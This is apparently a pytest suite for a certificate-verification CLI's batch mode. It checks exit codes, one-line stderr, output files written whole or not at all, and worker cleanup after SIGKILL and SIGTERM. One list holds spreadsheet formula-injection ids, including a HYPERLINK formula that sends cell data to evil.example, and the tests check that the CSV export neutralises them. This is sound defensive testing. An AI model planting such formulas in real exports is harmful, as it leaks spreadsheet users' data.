"""``szzz verify --batch`` as a platform runs it, in real processes: exit status
(0 only when every row is valid, 1 otherwise, 2 when it could not run, 128 + n
when stopped by signal n), one summary or error line on stderr and never a
traceback, an ``--out`` file written whole or not at all, and workers that
never outlive the command -- even when it is killed with SIGKILL."""

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import builders
import openpyxl
import pytest
from helpers import soffice_to_xlsx

from registry.core import payload, spreadsheet

ROOT = Path(__file__).resolve().parents[2]
SITE_URL = "https://szzz.example.cn"


@pytest.fixture(scope="module")
def world(make_registry):
    w = builders.published(make_registry(**builders.LOG_REGISTRY))
    conn = sqlite3.connect(w["db"])
    marks = dict(conn.execute("select cert_no, mark_payload from certificates"))
    conn.close()
    return {**w, "url": payload.mark_url(SITE_URL, marks[w["certs"]["valid"]]),
            "revoked_url": payload.mark_url(SITE_URL, marks[w["certs"]["revoked"]])}


def command(world, *args):
    return [sys.executable, "-m", "registry", "verify", "--site", str(world["site"]), "--root-key", world["root"],
            "--no-progress", *[str(a) for a in args]]


ENV = dict(os.environ, PYTHONPATH=str(ROOT), SZZZ_TODAY=builders.TODAY)


def szzz(world, *args, **kw):
    return subprocess.run(command(world, *args), capture_output=True, text=True, env=ENV, timeout=120,
                          stdin=subprocess.DEVNULL, check=False, **kw)


def one_line(stderr):
    """stderr is one line (an error, or the summary), never a traceback."""
    assert "Traceback" not in stderr and stderr.count("\n") == 1, stderr
    return stderr.rstrip("\n")


def test_exit_status_is_0_only_when_every_row_is_valid(world, tmp_path):
    good = tmp_path / "good.csv"
    good.write_text(f"id,url\na,{world['url']}\nb,{world['url']}\n", encoding="utf-8")
    done = szzz(world, "--batch", good)
    assert done.returncode == 0 and one_line(done.stderr) == "批量核验 batch: 2 行 rows: valid=2"
    assert [json.loads(line)["id"] for line in done.stdout.splitlines()] == ["a", "b"]

    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(f"id,url\na,{world['url']}\nb,{world['revoked_url']}\n".encode() + b"c,\xff\n")
    out = tmp_path / "verdicts.jsonl"
    done = szzz(world, "--batch", mixed, "--out", out, "--workers", "2")
    assert done.returncode == 1 and done.stdout == ""
    assert one_line(done.stderr) == "批量核验 batch: 3 行 rows: malformed=1, revoked=1, valid=1"
    assert [json.loads(line)["verdict"] for line in out.read_text().splitlines()] == ["valid", "revoked",
                                                                                      "malformed"]
    assert sorted(os.listdir(tmp_path)) == ["good.csv", "mixed.csv", "verdicts.jsonl"]


@pytest.mark.parametrize(("name", "data", "error"), [
    ("listings.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "header row not UTF-8: byte 0x89 at byte 1"),
    ("gbk.csv", "编号,url\n甲,x\n".encode("gbk"), "header row not UTF-8: byte 0xB1 at byte 1"),
    ("empty.csv", b"", "empty batch file"),
])
def test_a_file_that_is_not_a_batch_exits_2_and_writes_nothing(world, tmp_path, name, data, error):
    batch_file = tmp_path / name
    batch_file.write_bytes(data)
    done = szzz(world, "--batch", batch_file, "--out", tmp_path / "verdicts.jsonl")
    assert done.returncode == 2 and done.stdout == ""
    line = one_line(done.stderr)
    assert line.startswith(f"Error: {batch_file}: ") and error in line
    assert os.listdir(tmp_path) == [name]


def test_bad_options_are_usage_errors_without_a_traceback(world, tmp_path):
    batch_file = tmp_path / "listings.csv"
    batch_file.write_text(f"id,url\na,{world['url']}\n", encoding="utf-8")
    for args, says in ((["--workers", "-1"], "'--workers': -1 is not in the range 1<=x<=256"),
                       (["--workers", "0"], "'--workers': 0 is not in the range"),
                       (["--workers", "100000"], "'--workers': 100000 is not in the range"),
                       (["--image-timeout", "0"], "'--image-timeout': 0.0 is not in the range"),
                       (["--format", "xml"], "'--format': 'xml' is not one of 'jsonl', 'csv'")):
        done = szzz(world, "--batch", batch_file, *args)
        assert done.returncode == 2 and "Traceback" not in done.stderr and says in done.stderr, done.stderr
    missing = tmp_path / "no such dir" / "verdicts.jsonl"
    done = szzz(world, "--batch", batch_file, "--out", missing)
    assert done.returncode == 2
    assert one_line(done.stderr) == (f"Error: --out {missing}: observed no directory {missing.parent}, "
                                     "expected an existing directory")
    assert sorted(os.listdir(tmp_path)) == ["listings.csv"]


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB",
               "'quoted", "-12", "L-1", "＝1+1"]


def test_csv_output_opens_in_libreoffice_without_a_formula(world, tmp_path):
    """An --out ending in .csv is CSV for spreadsheets: ids sellers wrote come
    through LibreOffice Calc as text, never as formulas (core.spreadsheet's
    rule, as for the site's downloads), and every row is there in order."""
    batch_file = tmp_path / "listings.jsonl"
    batch_file.write_text("".join(json.dumps({"id": i, "url": world["url"]}) + "\n" for i in HOSTILE_IDS)
                          + json.dumps({"id": 7, "cert_no": world["certs"]["suspended"]}) + "\n", encoding="utf-8")
    out = tmp_path / "verdicts.csv"
    done = szzz(world, "--batch", batch_file, "--out", out)
    assert done.returncode == 1, done.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    expected_ids = [spreadsheet.safe_cell(i) for i in HOSTILE_IDS] + ["7"]
    assert [(r["row"], r["id"], r["verdict"]) for r in rows] == [
        (str(n), i, "valid") for n, i in enumerate(expected_ids[:-1], 1)] + [("10", "7", "suspended")]
    assert expected_ids[:6] == ["'" + i for i in HOSTILE_IDS[:6]] and expected_ids[6:9] == HOSTILE_IDS[6:9]
    sheet = openpyxl.load_workbook(soffice_to_xlsx([out], tmp_path)[0]).active
    ids = [row[1] for row in sheet.iter_rows(min_row=2, max_col=2)]
    assert [c.data_type for c in ids] == ["s"] * 6 + ["n", "s", "s", "n"]
    assert [c.value for c in ids] == [*expected_ids[:6], -12, "L-1", "＝1+1", 7]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_fifo_in_the_image_column_is_malformed_within_the_limit(world, tmp_path):
    """Issue 10: a FIFO in the image column hung the run forever."""
    fifo = tmp_path / "mark.png"
    os.mkfifo(fifo)
    batch_file = tmp_path / "listings.csv"
    batch_file.write_text(f"id,image,url\nf,{fifo},\ng,,{world['url']}\n", encoding="utf-8")
    done = szzz(world, "--batch", batch_file, "--image-timeout", "2", "--workers", "2")
    assert done.returncode == 1
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert [(r["id"], r["verdict"]) for r in rows] == [("f", "malformed"), ("g", "valid")]
    assert rows[0]["reason"] == f"{fifo}: cannot read image: observed a FIFO (named pipe), expected a regular file"
    assert one_line(done.stderr) == "批量核验 batch: 2 行 rows: malformed=1, valid=1"


def test_a_reader_that_goes_away_stops_the_run_quietly(world, tmp_path):
    """`szzz verify --batch … | head -1`: no BrokenPipeError traceback."""
    batch_file = tmp_path / "listings.csv"
    batch_file.write_text("id,url\n" + "".join(f"r{i},{world['url']}\n" for i in range(5000)), encoding="utf-8")
    proc = subprocess.Popen(command(world, "--batch", batch_file, "--workers", "1"), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=ENV, stdin=subprocess.DEVNULL)
    first = proc.stdout.readline()
    proc.stdout.close()
    stderr = proc.stderr.read().decode()
    assert proc.wait(120) == 128 + signal.SIGPIPE
    assert json.loads(first)["row"] == 1 and stderr == ""


# ------------------------------------------------------------------- killed mid-run

def children_of(pid):
    """Live (not zombie) processes whose parent is ``pid``, from /proc."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid and fields[0] != "Z":
            found.append(int(entry))
    return found


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def wait_for(predicate, seconds=60):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return False


@pytest.fixture
def running_batch(world, tmp_path):
    """A batch run with two workers, started and waiting for more rows from a FIFO
    that the test holds open: (process, its worker pids, output directory)."""
    fifo = tmp_path / "listings.csv"
    os.mkfifo(fifo)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    proc = subprocess.Popen(command(world, "--batch", fifo, "--out", out_dir / "verdicts.jsonl",
                                    "--workers", "2"),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=ENV, stdin=subprocess.DEVNULL)
    writer = open(fifo, "w")   # noqa: SIM115 - held open past the fixture's yield; closed below
    writer.write(f"id,url\na,{world['url']}\n")
    writer.flush()
    try:
        assert wait_for(lambda: len(children_of(proc.pid)) == 2), "the pool did not start"
        yield proc, children_of(proc.pid), out_dir
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait(60)
        try:
            writer.close()
        except BrokenPipeError:
            pass


def test_workers_die_with_the_parent_and_no_output_file_is_left(running_batch):
    """Issue 10: a worker stayed alive 40 minutes after the parent was killed,
    and a failed run left its temporary file. SIGKILL allows no cleanup at all.
    (Idle workers, as here, also end when the parent's end of their task pipe
    closes; a busy one would not: tests/core/test_parallel.py kills the parent
    of busy workers.)"""
    proc, workers, out_dir = running_batch
    proc.kill()
    proc.wait(60)
    assert wait_for(lambda: not any(alive(w) for w in workers), 30), "workers outlived the parent"
    assert os.listdir(out_dir) == []


def test_sigterm_stops_the_run_cleanly(running_batch):
    proc, workers, out_dir = running_batch
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(60) == 128 + signal.SIGTERM
    assert one_line(proc.stderr.read().decode()) == "Error: interrupted by SIGTERM; no output file was written"
    assert wait_for(lambda: not any(alive(w) for w in workers), 30)
    assert os.listdir(out_dir) == []
